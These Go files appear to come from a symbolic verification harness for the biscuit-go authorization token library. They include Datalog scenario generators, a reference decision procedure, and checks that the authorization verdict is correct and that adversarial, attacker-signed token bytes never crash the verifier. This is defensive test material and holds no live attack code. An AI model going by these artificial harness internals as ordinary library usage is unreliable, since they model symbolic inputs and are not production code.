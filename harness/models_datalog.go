package datalog

// Go-source environment models interpreted by gosym in place of library code it cannot encode.

import (
	"context"
	"time"
)

// vCtx models a context created by context.WithTimeout: Done() is a channel that becomes ready at a
// nondeterministic, monotone moment chosen by the interpreter (the deadline), or when cancel is called.
type vCtx struct {
	done chan struct{}
}

func (c *vCtx) Deadline() (time.Time, bool) { return time.Time{}, true }
func (c *vCtx) Done() <-chan struct{}       { return c.done }
func (c *vCtx) Err() error                  { return context.DeadlineExceeded }
func (c *vCtx) Value(key any) any           { return nil }

func vmodelWithTimeout(parent context.Context, d time.Duration) (context.Context, context.CancelFunc) {
	c := &vCtx{done: vTimerChan()}
	return c, func() { vTimerCancel(c.done) }
}
