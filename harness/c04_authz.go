package biscuit

// C04 — the authorization verdict follows the specified decision procedure.

// gScenario reads the component modes from the check parameters.
func gScenario() (gBlock, []gBlock, gAuthz) {
	authority := gGenBlock("auth", vParam("authFacts"), vParam("authRule"), vParam("authCheck"))
	var blocks []gBlock
	for i := 0; i < vParam("blocks"); i++ {
		blocks = append(blocks, gGenBlock("blk", vParam("blkFacts"), vParam("blkRule"), vParam("blkCheck")))
	}
	var z gAuthz
	z.gBlock = gGenBlock("az", vParam("azFacts"), vParam("azRule"), vParam("azCheck"))
	if c, ok := gGenCheck("az.c2", vParamOpt("azCheck2")); ok {
		// a second check of the authorizer: each check counts on its own
		z.checks = append(z.checks, c)
	}
	z.policies = gGenPolicies("pol", vParam("policies"), vParam("polMode"))
	return authority, blocks, z
}

func VerifC04Verdict() {
	vForbidPanic("C04")
	vTimerMode(0)
	authority, blocks, z := gScenario()
	g := gBuildToken(authority, blocks)
	a, err := NewVerifier(g.tok, gPatient)
	vAssert(err == nil, "C04.verifier")
	if err != nil {
		return
	}
	gLoad(a, z)
	got := gClass(a.Authorize())
	vObserve("class", got)
	switch got {
	case oAllow:
		vCover("allow")
	case oDenied:
		vCover("denied")
	case oNoMatch:
		vCover("nomatch")
	default:
		vCover("failed")
	}
	checks, matched, allow := gReference(authority, blocks, z)
	// check failure takes precedence over the policy result
	vAssert((got == oFailed) == vNot(checks), "C04.checks")
	vAssert(vImplies(checks, (got == oAllow) == vAnd(matched, allow)), "C04.allow")
	vAssert(vImplies(checks, (got == oDenied) == vAnd(matched, vNot(allow))), "C04.denied")
	vAssert(vImplies(checks, (got == oNoMatch) == vNot(matched)), "C04.nomatch")
}

// VerifC04Incremental: the verdict is a function of what the authorizer holds when Authorize is called.
// An authorizer that has already been asked once and is then given one more fact decides like a fresh
// authorizer holding all of it (its own rules still apply to the new fact).
func VerifC04Incremental() {
	vForbidPanic("C04")
	vTimerMode(0)
	authority, blocks, z := gScenario()
	g := gBuildToken(authority, blocks)
	late := gConstAtom("late.f")
	a, err := NewVerifier(g.tok, gPatient)
	vAssert(err == nil, "C04.verifier")
	if err != nil {
		return
	}
	gLoad(a, z)
	first := gClass(a.Authorize())
	vObserve("first", first)
	a.AddFact(Fact{late.pred()})
	got := gClass(a.Authorize())
	vObserve("class", got)
	z2 := z
	z2.facts = append(append([]gAtom{}, z.facts...), late)
	checks, matched, allow := gReference(authority, blocks, z2)
	vCover("decided")
	if got == oAllow {
		vCover("allow")
	}
	vAssert((got == oFailed) == vNot(checks), "C04.incremental.checks")
	vAssert(vImplies(checks, (got == oAllow) == vAnd(matched, allow)), "C04.incremental.allow")
	vAssert(vImplies(checks, (got == oDenied) == vAnd(matched, vNot(allow))), "C04.incremental.denied")
	vAssert(vImplies(checks, (got == oNoMatch) == vNot(matched)), "C04.incremental.nomatch")
}
