package biscuit

// C04 — the authorization verdict follows the specified decision procedure.

// gScenario reads the component modes from the check parameters.
func gScenario() (gBlock, []gBlock, gAuthz) {
	authority := gGenBlock("auth", vParam("authFacts"), vParam("authRule"), vParam("authCheck"))
	var blocks []gBlock
	for i := 0; i < vParam("blocks"); i++ {
		blocks = append(blocks, gGenBlock("blk", vParam("blkFacts"), vParam("blkRule"), vParam("blkCheck")))
	}
	var z gAuthz
	z.gBlock = gGenBlock("az", vParam("azFacts"), vParam("azRule"), vParam("azCheck"))
	z.policies = gGenPolicies("pol", vParam("policies"), vParam("polMode"))
	return authority, blocks, z
}

func VerifC04Verdict() {
	vForbidPanic("C04")
	vTimerMode(0)
	authority, blocks, z := gScenario()
	g := gBuildToken(authority, blocks)
	a, err := NewVerifier(g.tok, gPatient)
	vAssert(err == nil, "C04.verifier")
	if err != nil {
		return
	}
	gLoad(a, z)
	got := gClass(a.Authorize())
	vObserve("class", got)
	switch got {
	case oAllow:
		vCover("allow")
	case oDenied:
		vCover("denied")
	case oNoMatch:
		vCover("nomatch")
	default:
		vCover("failed")
	}
	checks, matched, allow := gReference(authority, blocks, z)
	// check failure takes precedence over the policy result
	vAssert((got == oFailed) == vNot(checks), "C04.checks")
	vAssert(vImplies(checks, (got == oAllow) == vAnd(matched, allow)), "C04.allow")
	vAssert(vImplies(checks, (got == oDenied) == vAnd(matched, vNot(allow))), "C04.denied")
	vAssert(vImplies(checks, (got == oNoMatch) == vNot(matched)), "C04.nomatch")
}
