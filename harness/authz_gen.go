package biscuit

// Shared generator and reference semantics for the authorization harnesses (C02 C03 C04 C09 C12 C13 C18).
// Programs are unary Datalog over symbolic predicate names (one byte, 'a' or 'b') and symbolic integer
// constants, so which predicates and constants coincide is decided by the solver. Shapes (which
// template a rule or query follows) are enumerated.

import (
	"crypto/ed25519"
	"errors"
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
)

// gPatient: a generous deadline for native replays (the default 2ms makes results depend on machine
// load); in the interpreter the deadline is symbolic and, in these harnesses, never reached.
var gPatient = WithWorldOptions(datalog.WithMaxDuration(30 * time.Second))

type gAtom struct {
	name  string
	isVar bool
	c     int64
}

type gRule struct {
	head    gAtom // unused for queries
	body    []gAtom
	hasExpr bool
	e       int64
}

type gPolicy struct {
	deny    bool
	queries []gRule
}

type gBlock struct {
	facts  []gAtom
	rules  []gRule
	checks [][]gRule
}

type gAuthz struct {
	gBlock
	policies []gPolicy
}

var gNames int

// gName: a symbolic one-byte predicate name over {a, b}. The first name of a scenario is 'a':
// the two letters are interchangeable, so this only removes mirror images.
func gName(tag string) string {
	s := vString(tag, 1)
	if gNames == 0 {
		vAssume(s[0] == 'a')
	} else {
		vAssume(vOr(s[0] == 'a', s[0] == 'b'))
	}
	gNames++
	return s
}

func gConstAtom(tag string) gAtom { return gAtom{name: gName(tag + ".name"), c: vInt64(tag + ".c")} }
func gVarAtom(tag string) gAtom   { return gAtom{name: gName(tag + ".name"), isVar: true} }

// mode: 0 absent, 1 fixed template (h(X) <- b(X)), 2 any template
func gGenRule(tag string, mode int) (gRule, bool) {
	if mode == 0 {
		return gRule{}, false
	}
	t := 0
	if mode >= 2 {
		t = vChoose(tag+".template", 7)
		if t == 6 {
			return gRule{}, false
		}
	}
	var r gRule
	switch t % 3 {
	case 0: // h(X) <- b(X)
		r = gRule{head: gVarAtom(tag + ".h"), body: []gAtom{gVarAtom(tag + ".b")}}
	case 1: // h(X) <- b(X), b2(X)
		r = gRule{head: gVarAtom(tag + ".h"), body: []gAtom{gVarAtom(tag + ".b"), gVarAtom(tag + ".b2")}}
	default: // h(c) <- b(X)
		r = gRule{head: gConstAtom(tag + ".h"), body: []gAtom{gVarAtom(tag + ".b")}}
	}
	if t >= 3 {
		r.hasExpr = true
		r.e = vInt64(tag + ".e")
	}
	return r, true
}

func gGenQuery(tag string, mode int) (gRule, bool) {
	if mode == 0 {
		return gRule{}, false
	}
	t := 0
	if mode >= 2 {
		t = vChoose(tag+".template", 6)
	}
	var r gRule
	switch t % 3 {
	case 0: // p(X)
		r = gRule{body: []gAtom{gVarAtom(tag + ".p")}}
	case 1: // p(c)
		r = gRule{body: []gAtom{gConstAtom(tag + ".p")}}
	default: // p(X), q(X)
		r = gRule{body: []gAtom{gVarAtom(tag + ".p"), gVarAtom(tag + ".q")}}
	}
	if t >= 3 && t%3 != 1 {
		r.hasExpr = true
		r.e = vInt64(tag + ".e")
	}
	return r, true
}

// gGenCheck: mode 0 absent, 1 one fixed query, 2 one free query, 3 one or two free queries ("or")
func gGenCheck(tag string, mode int) ([]gRule, bool) {
	if mode == 0 {
		return nil, false
	}
	qm := mode
	if qm > 2 {
		qm = 2
	}
	q, _ := gGenQuery(tag+".q0", qm)
	qs := []gRule{q}
	if mode >= 3 && vChoose(tag+".or", 2) == 1 {
		q2, _ := gGenQuery(tag+".q1", 2)
		qs = append(qs, q2)
	}
	return qs, true
}

func gGenBlock(tag string, nfacts, ruleMode, checkMode int) gBlock {
	var b gBlock
	if tag == "auth" {
		gNames = 0 // start of a scenario (the native replay runs several cases in one process)
		gVarName = "x"
	}
	for i := 0; i < nfacts; i++ {
		b.facts = append(b.facts, gConstAtom(tag+".f"))
	}
	if tag == "auth" {
		// padding: concrete authority facts of an unrelated predicate. They change nothing in the
		// specified outcome but move the sizes (and spare capacities) of the evaluator's fact storage.
		for i := 0; i < vParamOpt("authPad"); i++ {
			b.facts = append(b.facts, gAtom{name: "pad", c: int64(i)})
		}
	}
	if r, ok := gGenRule(tag+".r", ruleMode); ok {
		b.rules = append(b.rules, r)
	}
	if c, ok := gGenCheck(tag+".c", checkMode); ok {
		b.checks = append(b.checks, c)
	}
	return b
}

func gGenPolicies(tag string, n, mode int) []gPolicy {
	var ps []gPolicy
	for i := 0; i < n; i++ {
		q, _ := gGenQuery(tag+".q", mode)
		qs := []gRule{q}
		// policies with alternative queries ("allow if A or B")
		if vParam("polq") >= 2 && vChoose(tag+".or", 2) == 1 {
			q2, _ := gGenQuery(tag+".q2", mode)
			qs = append(qs, q2)
		}
		ps = append(ps, gPolicy{deny: vBool(tag + ".deny"), queries: qs})
	}
	return ps
}

// ---- conversion to the library's builder types

// gVarName is the name of the single rule variable (C12 renames it consistently).
var gVarName = "x"

func (a gAtom) pred() Predicate {
	if a.isVar {
		return Predicate{Name: a.name, IDs: []Term{Variable(gVarName)}}
	}
	return Predicate{Name: a.name, IDs: []Term{Integer(a.c)}}
}

func (r gRule) rule(isQuery bool) Rule {
	out := Rule{}
	if isQuery {
		out.Head = Predicate{Name: "query"}
	} else {
		out.Head = r.head.pred()
	}
	for _, b := range r.body {
		out.Body = append(out.Body, b.pred())
	}
	if r.hasExpr {
		out.Expressions = []Expression{{Value{Variable(gVarName)}, Value{Integer(r.e)}, BinaryLessThan}}
	}
	return out
}

func gCheck(qs []gRule) Check {
	c := Check{}
	for _, q := range qs {
		c.Queries = append(c.Queries, q.rule(true))
	}
	return c
}

func (p gPolicy) policy() Policy {
	out := Policy{Kind: PolicyKind(vIteByte(p.deny, byte(PolicyKindDeny), byte(PolicyKindAllow)))}
	for _, q := range p.queries {
		out.Queries = append(out.Queries, q.rule(true))
	}
	return out
}

type gToken struct {
	root    ed25519.PrivateKey
	rootPub ed25519.PublicKey
	rng     *chainRNG
	tok     *Biscuit
}

// gBuildToken builds authority + blocks through the real builders (signatures under the ideal model).
func gBuildToken(authority gBlock, blocks []gBlock) *gToken {
	g := &gToken{rng: &chainRNG{}}
	g.root = ed25519.NewKeyFromSeed(vWide("root", 32))
	g.rootPub = g.root.Public().(ed25519.PublicKey)
	bopts := []builderOption{WithRNG(g.rng)}
	if vParamOpt("baseSyms") != 0 {
		// the issuer works on top of a symbol table of its own (the verifier must be given the same one)
		bopts = append(bopts, WithSymbols(&datalog.SymbolTable{"zz-base-0", "zz-base-1"}))
	}
	b := NewBuilder(g.root, bopts...)
	for _, f := range authority.facts {
		b.AddAuthorityFact(Fact{f.pred()}) // duplicates are refused by the builder: fine, a set
	}
	for _, r := range authority.rules {
		b.AddAuthorityRule(r.rule(false))
	}
	for _, c := range authority.checks {
		b.AddAuthorityCheck(gCheck(c))
	}
	t, err := b.Build()
	if err != nil {
		vAssert(false, "gen.build")
		vAssume(false)
	}
	for _, blk := range blocks {
		t = gAppend(g, t, blk)
	}
	g.tok = t
	return g
}

func gAppend(g *gToken, t *Biscuit, blk gBlock) *Biscuit {
	bb := t.CreateBlock()
	for _, f := range blk.facts {
		bb.AddFact(Fact{f.pred()})
	}
	for _, r := range blk.rules {
		bb.AddRule(r.rule(false))
	}
	for _, c := range blk.checks {
		bb.AddCheck(gCheck(c))
	}
	t2, err := t.Append(g.rng, bb.Build())
	if err != nil {
		vAssert(false, "gen.append")
		vAssume(false)
	}
	return t2
}

func gLoad(a Authorizer, z gAuthz) {
	for _, f := range z.facts {
		a.AddFact(Fact{f.pred()})
	}
	for _, r := range z.rules {
		a.AddRule(r.rule(false))
	}
	for _, c := range z.checks {
		a.AddCheck(gCheck(c))
	}
	for _, p := range z.policies {
		a.AddPolicy(p.policy())
	}
}

// outcome classes
const (
	oAllow = iota
	oDenied
	oNoMatch
	oFailed
)

func gClass(err error) int {
	switch {
	case err == nil:
		return oAllow
	case errors.Is(err, ErrPolicyDenied):
		return oDenied
	case errors.Is(err, ErrNoMatchingPolicy):
		return oNoMatch
	}
	return oFailed
}

// ---- reference semantics (branch-free): unary atoms over a finite list of constants

type gRef struct {
	consts   []int64
	base     []gAtom // ground facts
	baseCond []bool  // condition under which base[i] is present (nil entry = always)
	rules    []gRule
	truth    [][]bool // truth[h][k]: rule h derives its head for binding consts[k]
}

func (g *gRef) addBase(a gAtom, cond bool) {
	g.base = append(g.base, a)
	g.baseCond = append(g.baseCond, cond)
}

func gCollectConsts(blocks ...gBlock) []int64 {
	var cs []int64
	add := func(a gAtom) {
		if !a.isVar {
			cs = append(cs, a.c)
		}
	}
	for _, b := range blocks {
		for _, f := range b.facts {
			add(f)
		}
		for _, r := range b.rules {
			add(r.head)
			for _, a := range r.body {
				add(a)
			}
		}
	}
	return cs
}

// holds: name(v) is true in the current state
func (g *gRef) holds(name string, v int64) bool {
	r := false
	for i, f := range g.base {
		r = vOr(r, vAnd(g.baseCond[i], vAnd(vStrEq(f.name, name), f.c == v)))
	}
	for h, rl := range g.rules {
		for k, c := range g.consts {
			hv := c
			if !rl.head.isVar {
				hv = rl.head.c
			}
			r = vOr(r, vAnd(g.truth[h][k], vAnd(vStrEq(rl.head.name, name), hv == v)))
		}
	}
	return r
}

// bodyHolds: all body atoms hold with X = x, and the expression is true
func (g *gRef) bodyHolds(rl gRule, x int64) bool {
	c := true
	for _, a := range rl.body {
		if a.isVar {
			c = vAnd(c, g.holds(a.name, x))
		} else {
			c = vAnd(c, g.holds(a.name, a.c))
		}
	}
	if rl.hasExpr {
		c = vAnd(c, x < rl.e)
	}
	return c
}

// close computes the least fixpoint by naive iteration (enough rounds for every derivable atom).
func (g *gRef) close() {
	H, K := len(g.rules), len(g.consts)
	g.truth = make([][]bool, H)
	for h := range g.truth {
		g.truth[h] = make([]bool, K)
	}
	for round := 0; round < H*K+1; round++ {
		next := make([][]bool, H)
		for h, rl := range g.rules {
			next[h] = make([]bool, K)
			for k, c := range g.consts {
				next[h][k] = vOr(g.truth[h][k], g.bodyHolds(rl, c))
			}
		}
		g.truth = next
	}
}

// satisfied: some binding of X satisfies the query
func (g *gRef) satisfied(q gRule) bool {
	hasVar := false
	for _, a := range q.body {
		if a.isVar {
			hasVar = true
		}
	}
	if !hasVar {
		return g.bodyHolds(q, 0)
	}
	r := false
	for _, c := range g.consts {
		r = vOr(r, g.bodyHolds(q, c))
	}
	return r
}

func (g *gRef) checkOK(c []gRule) bool {
	r := false
	for _, q := range c {
		r = vOr(r, g.satisfied(q))
	}
	return r
}

// gReference: the specified decision procedure. Returns (allChecksPass, class of the policy result).
func gReference(authority gBlock, blocks []gBlock, z gAuthz) (bool, bool, bool) {
	all := append([]gBlock{authority, z.gBlock}, blocks...)
	consts := gCollectConsts(all...)
	if len(consts) == 0 {
		consts = []int64{0}
	}
	// authority-level closure: authority + authorizer facts and rules
	top := &gRef{consts: consts}
	for _, f := range authority.facts {
		top.addBase(f, true)
	}
	for _, f := range z.facts {
		top.addBase(f, true)
	}
	top.rules = append(append([]gRule{}, authority.rules...), z.rules...)
	top.close()
	checks := true
	for _, c := range z.checks {
		checks = vAnd(checks, top.checkOK(c))
	}
	for _, c := range authority.checks {
		checks = vAnd(checks, top.checkOK(c))
	}
	// each later block: that closure (as facts) plus the block's own facts and rules
	for _, b := range blocks {
		bw := &gRef{consts: consts}
		for i, f := range top.base {
			bw.addBase(f, top.baseCond[i])
		}
		// derived facts of the top closure become base facts of the block world
		for h, rl := range top.rules {
			for k, c := range consts {
				hv := c
				if !rl.head.isVar {
					hv = rl.head.c
				}
				bw.addBase(gAtom{name: rl.head.name, c: hv}, top.truth[h][k])
			}
		}
		for _, f := range b.facts {
			bw.addBase(f, true)
		}
		bw.rules = b.rules
		bw.close()
		for _, c := range b.checks {
			checks = vAnd(checks, bw.checkOK(c))
		}
	}
	// policies in order
	matched := false
	allow := false
	for _, pol := range z.policies {
		sat := false
		for _, q := range pol.queries {
			sat = vOr(sat, top.satisfied(q))
		}
		first := vAnd(vNot(matched), sat)
		allow = vOr(allow, vAnd(first, vNot(pol.deny)))
		matched = vOr(matched, sat)
	}
	return checks, matched, allow
}
