package biscuit

// C10 — untrusted token bytes can never crash the verifier.
// A schema-valid message with adversarial field values is built at the protobuf level, signed validly
// by an attacker-chosen root (so that evaluation is reached), and pushed through the public API.

import (
	"crypto/ed25519"

	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

// hIndex: a symbol index. It is one of: a default symbol, the first or second table slot, or an arbitrary
// index beyond that (which includes every value >= 2^63). A fully unconstrained 64-bit index is used at
// exactly one place per path (hFreeIndex) because resolving it forks over all 28 default symbols.

func hIndex(tag string, free bool) uint64 {
	switch vChoose(tag+".index", 5) {
	case 0:
		return 0
	case 1:
		return 1024
	case 2:
		return 1025
	case 3:
		x := vUint64(tag + ".midindex") // beyond the default symbols, below the table offset
		vAssume(vAnd(x >= 28, x < 1024))
		return x
	}
	x := vUint64(tag + ".bigindex") // beyond the table: includes every value >= 2^63
	vAssume(x >= 5000)
	return x
}

func hVarIndex(tag string) uint32 {
	switch vChoose(tag+".varindex", 3) {
	case 0:
		return 0
	case 1:
		return 1024
	}
	x := vUint32(tag + ".bigvar")
	vAssume(x >= 5000)
	return x
}

// hTerm: a term of any kind with symbolic content. full=false restricts to well-formed scalar kinds.
func hTerm(tag string, full bool, depth int) *pb.TermV2 {
	n := 3
	if full {
		n = 8
	}
	switch vChoose(tag+".kind", n) {
	case 0:
		return &pb.TermV2{Content: &pb.TermV2_Integer{Integer: vInt64(tag + ".int")}}
	case 1:
		return &pb.TermV2{Content: &pb.TermV2_Variable{Variable: hVarIndex(tag)}}
	case 2:
		return &pb.TermV2{Content: &pb.TermV2_String_{String_: hIndex(tag, full)}}
	case 3:
		return &pb.TermV2{Content: &pb.TermV2_Date{Date: vUint64(tag + ".date")}}
	case 4:
		return &pb.TermV2{Content: &pb.TermV2_Bytes{Bytes: vBytes(tag+".bytes", vChoose(tag+".byteslen", 2))}}
	case 5:
		return &pb.TermV2{Content: &pb.TermV2_Bool{Bool: vBool(tag + ".bool")}}
	case 6:
		return &pb.TermV2{} // empty oneof
	default:
		if depth > 0 {
			return &pb.TermV2{Content: &pb.TermV2_Set{Set: &pb.TermSet{}}} // nested (empty) set
		}
		set := &pb.TermSet{}
		first := hTerm(tag+".elt", true, depth+1)
		set.Set = append(set.Set, first)
		switch vChoose(tag+".second", vParam("setsecond")) {
		case 1: // a second element of the same kind
			switch first.Content.(type) {
			case *pb.TermV2_Integer:
				set.Set = append(set.Set, &pb.TermV2{Content: &pb.TermV2_Integer{Integer: vInt64(tag + ".elt2")}})
			case *pb.TermV2_Bytes:
				set.Set = append(set.Set, &pb.TermV2{Content: &pb.TermV2_Bytes{Bytes: vBytes(tag+".elt2", 1)}})
			case *pb.TermV2_String_:
				set.Set = append(set.Set, &pb.TermV2{Content: &pb.TermV2_String_{String_: 1024}})
			case *pb.TermV2_Date:
				set.Set = append(set.Set, &pb.TermV2{Content: &pb.TermV2_Date{Date: vUint64(tag + ".elt2")}})
			case *pb.TermV2_Bool:
				set.Set = append(set.Set, &pb.TermV2{Content: &pb.TermV2_Bool{Bool: vBool(tag + ".elt2")}})
			default:
				set.Set = append(set.Set, &pb.TermV2{})
			}
		case 2: // a second element of another kind
			if _, isInt := first.Content.(*pb.TermV2_Integer); isInt {
				set.Set = append(set.Set, &pb.TermV2{Content: &pb.TermV2_Bool{Bool: true}})
			} else {
				set.Set = append(set.Set, &pb.TermV2{Content: &pb.TermV2_Integer{Integer: vInt64(tag + ".elt2")}})
			}
		}
		return &pb.TermV2{Content: &pb.TermV2_Set{Set: set}}
	}
}

func hPred(tag string, arity int, full bool) *pb.PredicateV2 {
	if !full {
		name := uint64(1024)
		return &pb.PredicateV2{Name: &name, Terms: []*pb.TermV2{{Content: &pb.TermV2_Integer{Integer: 1}}}}
	}
	if vChoose(tag+".required", 2) == 1 {
		return &pb.PredicateV2{Terms: []*pb.TermV2{{Content: &pb.TermV2_Integer{Integer: 1}}}} // required name absent
	}
	name := hIndex(tag+".name", full)
	p := &pb.PredicateV2{Name: &name}
	n := 1
	if vParam("arities") > 1 {
		n = vChoose(tag+".arity", arity+2) // 0..arity+1 terms
	}
	for i := 0; i < n; i++ {
		p.Terms = append(p.Terms, hTerm(tag+".t", i == 0, 0))
	}
	return p
}

func hOp(tag string) *pb.Op {
	switch vChoose(tag+".op", 6) {
	case 0:
		return &pb.Op{Content: &pb.Op_Value{Value: hTerm(tag+".v", false, 0)}}
	case 1:
		k := pb.OpUnary_Kind(vInt32(tag + ".ukind"))
		return &pb.Op{Content: &pb.Op_Unary{Unary: &pb.OpUnary{Kind: &k}}}
	case 2:
		k := pb.OpBinary_Kind(vInt32(tag + ".bkind"))
		return &pb.Op{Content: &pb.Op_Binary{Binary: &pb.OpBinary{Kind: &k}}}
	case 3:
		return &pb.Op{}
	case 4:
		return &pb.Op{Content: &pb.Op_Unary{Unary: &pb.OpUnary{}}} // required kind absent
	default:
		return &pb.Op{Content: &pb.Op_Binary{Binary: &pb.OpBinary{}}} // required kind absent
	}
}

func hRule(tag string, focus string) *pb.RuleV2 {
	r := &pb.RuleV2{Head: hPred(tag+".h", 1, focus == "head")}
	if focus == "head" && vChoose(tag+".nohead", 2) == 1 {
		r.Head = nil // required head absent
	}
	r.Body = []*pb.PredicateV2{hPred(tag+".b", 1, focus == "body")}
	if focus == "expr" {
		e := &pb.ExpressionV2{}
		n := 1 + vChoose(tag+".nops", vParam("ops"))
		for i := 0; i < n; i++ {
			e.Ops = append(e.Ops, hOp(tag+".e"))
		}
		r.Expressions = []*pb.ExpressionV2{e}
	}
	return r
}

var hFocusNames = [...]string{"fact", "head", "body", "expr", "check", "meta"}

// hBlock: a block whose `focus` element is fully adversarial, the rest minimal but symbolic.
func hBlock(tag string, focus string) *pb.Block {
	b := &pb.Block{}
	v := uint32(3)
	if focus == "meta" {
		v = vUint32(tag + ".version")
		n := vChoose(tag+".nsyms", 3)
		for i := 0; i < n; i++ {
			b.Symbols = append(b.Symbols, vString(tag+".sym", 1))
		}
		if vChoose(tag+".ctx", 2) == 1 {
			c := vString(tag+".context", 1)
			b.Context = &c
		}
	} else {
		b.Symbols = []string{"s"}
	}
	b.Version = &v
	b.FactsV2 = []*pb.FactV2{{Predicate: hPred(tag+".f", 1, focus == "fact")}}
	if focus == "fact" && vChoose(tag+".nopred", 2) == 1 {
		b.FactsV2 = []*pb.FactV2{{}} // required predicate absent
	}
	switch focus {
	case "head", "body", "expr":
		b.RulesV2 = []*pb.RuleV2{hRule(tag+".r", focus)}
	case "check":
		q := hRule(tag+".q", []string{"head", "body", "expr"}[vChoose(tag+".qfocus", 3)])
		b.ChecksV2 = []*pb.CheckV2{{Queries: []*pb.RuleV2{q}}}
	}
	return b
}

// hBytes encodes a message the way a party writing bytes by hand can: required fields may be absent.
func hBytes(m proto.Message) ([]byte, error) {
	return proto.MarshalOptions{AllowPartial: true}.Marshal(m)
}

type hSigned struct {
	rootSeed []byte
	rootPub  ed25519.PublicKey
	data     []byte
}

// hSign wraps blocks into an envelope validly signed by the attacker's own root.
func hSign(blocks []*pb.Block, seal bool) (*hSigned, bool) {
	h := &hSigned{rootSeed: vWide("aroot", 32)}
	h.rootPub = ed25519.PublicKey(vPub(h.rootSeed))
	cur := h.rootSeed
	alg := pb.PublicKey_Ed25519
	var signed []*pb.SignedBlock
	for range blocks {
		signed = append(signed, nil)
	}
	var lastSeed []byte
	for i, b := range blocks {
		bytes, err := hBytes(b)
		if err != nil {
			return nil, false
		}
		seed := vWide("aseed", 32)
		pub := vPub(seed)
		payload := cat(bytes, le32(0), pub)
		signed[i] = &pb.SignedBlock{Block: bytes, NextKey: &pb.PublicKey{Algorithm: &alg, Key: pub}, Signature: vSig(cur, payload)}
		cur = seed
		lastSeed = seed
	}
	c := &pb.Biscuit{Authority: signed[0], Blocks: signed[1:]}
	if seal {
		last := signed[len(signed)-1]
		c.Proof = &pb.Proof{Content: &pb.Proof_FinalSignature{FinalSignature: vSig(lastSeed, cat(last.Block, le32(0), last.NextKey.Key, last.Signature))}}
	} else {
		c.Proof = &pb.Proof{Content: &pb.Proof_NextSecret{NextSecret: lastSeed}}
	}
	data, err := hBytes(c)
	if err != nil {
		return nil, false
	}
	h.data = data
	return h, true
}

// hExercise pushes a decoded token through every public operation.
func hExercise(tok *Biscuit, rootPub ed25519.PublicKey, rng *chainRNG) {
	_ = tok.String()
	_ = tok.Code()
	_ = tok.RevocationIds()
	_ = tok.Checks()
	_ = tok.GetContext()
	_ = tok.BlockCount()
	_ = tok.RootKeyID()
	tok.GetBlockID(Fact{Predicate{Name: "s", IDs: []Term{Integer(1)}}})
	if data, err := tok.Serialize(); err == nil {
		Unmarshal(data)
	}
	a, err := tok.AuthorizerFor(WithSingularRootPublicKey(rootPub), gPatient)
	if err == nil {
		vCover("verified")
		a.AddFact(Fact{Predicate{Name: "s", IDs: []Term{Integer(vInt64("azfact"))}}})
		a.AddCheck(Check{Queries: []Rule{{Head: Predicate{Name: "query"}, Body: []Predicate{{Name: "s", IDs: []Term{Variable("v")}}}}}})
		a.AddPolicy(DefaultAllowPolicy)
		aerr := a.Authorize()
		if aerr == nil {
			vCover("authorized")
		}
		_ = a.PrintWorld()
		a.Query(Rule{Head: Predicate{Name: "r", IDs: []Term{Variable("v")}}, Body: []Predicate{{Name: "s", IDs: []Term{Variable("v")}}}})
	}
	// under another 32-byte key
	tok.AuthorizerFor(WithSingularRootPublicKey(ed25519.PublicKey(vWide("otherkey", 32))))
	bb := tok.CreateBlock()
	bb.AddFact(Fact{Predicate{Name: "more", IDs: []Term{String("x")}}})
	if t2, err := tok.Append(rng, bb.Build()); err == nil {
		_ = t2.String()
		t2.Serialize()
	}
	if s, err := tok.Seal(rng); err == nil {
		s.Serialize()
		s.AuthorizerFor(WithSingularRootPublicKey(rootPub), gPatient)
	}
}

// VerifC10Block: adversarial block content, validly signed.
func VerifC10Block() {
	vForbidPanic("C10")
	vTimerMode(0)
	focus := hFocusNames[vChoose("focus", len(hFocusNames))]
	where := vChoose("where", 2) // hostile content in the authority or in a later block
	vLabel("focus=" + focus)
	var blocks []*pb.Block
	if where == 0 {
		blocks = []*pb.Block{hBlock("blk", focus)}
	} else {
		blocks = []*pb.Block{hBlock("auth", "none"), hBlock("blk", focus)}
	}
	h, ok := hSign(blocks, vChoose("sealed", vParam("sealed")) == 1)
	if !ok {
		vCover("unencodable")
		return
	}
	tok, err := Unmarshal(h.data)
	if err != nil {
		vCover("rejected-at-unmarshal")
		return
	}
	vCover("unmarshalled")
	hExercise(tok, h.rootPub, &chainRNG{})
}

// VerifC10Envelope: adversarial envelope fields (lengths, enum values, missing proof, bad signatures).
func VerifC10Envelope() {
	vForbidPanic("C10")
	vTimerMode(0)
	lens := [...]int{0, 32, 33, 31}
	siglens := [...]int{0, 64, 65, 63}
	mk := func(tag string, b *pb.Block) *pb.SignedBlock {
		bytes, _ := hBytes(b)
		alg := pb.PublicKey_Algorithm(vInt32(tag + ".alg"))
		return &pb.SignedBlock{Block: bytes,
			NextKey:   &pb.PublicKey{Algorithm: &alg, Key: vBytes(tag+".key", lens[vChoose(tag+".keylen", 4)])},
			Signature: vBytes(tag+".sig", siglens[vChoose(tag+".siglen", 4)])}
	}
	good := func(tag string, b *pb.Block) *pb.SignedBlock {
		bytes, _ := hBytes(b)
		alg := pb.PublicKey_Ed25519
		return &pb.SignedBlock{Block: bytes, NextKey: &pb.PublicKey{Algorithm: &alg, Key: vWide(tag+".key", 32)}, Signature: vWide(tag+".sig", 64)}
	}
	var c *pb.Biscuit
	if vChoose("blocks", 2) == 1 {
		c = &pb.Biscuit{Authority: good("a", hBlock("auth", "none")), Blocks: []*pb.SignedBlock{mk("b", hBlock("blk", "none"))}}
	} else {
		c = &pb.Biscuit{Authority: mk("a", hBlock("auth", "none"))}
	}
	switch vChoose("proof", 4) {
	case 0:
		c.Proof = &pb.Proof{Content: &pb.Proof_NextSecret{NextSecret: vBytes("secret", lens[vChoose("secretlen", 4)])}}
		vLabel("proof=secret")
	case 1:
		c.Proof = &pb.Proof{Content: &pb.Proof_FinalSignature{FinalSignature: vBytes("final", siglens[vChoose("finallen", 4)])}}
		vLabel("proof=final")
	case 2:
		c.Proof = &pb.Proof{}
		vLabel("proof=empty")
	default:
		c.Proof = &pb.Proof{Content: &pb.Proof_NextSecret{}}
		vLabel("proof=nil-secret")
	}
	if vChoose("keyid", 2) == 1 {
		id := vUint32("rootkeyid")
		c.RootKeyId = &id
	}
	data, err := hBytes(c)
	if err != nil {
		return
	}
	tok, err := Unmarshal(data)
	if err != nil {
		vCover("rejected-at-unmarshal")
		return
	}
	vCover("unmarshalled")
	hExercise(tok, ed25519.PublicKey(vWide("anyroot", 32)), &chainRNG{})
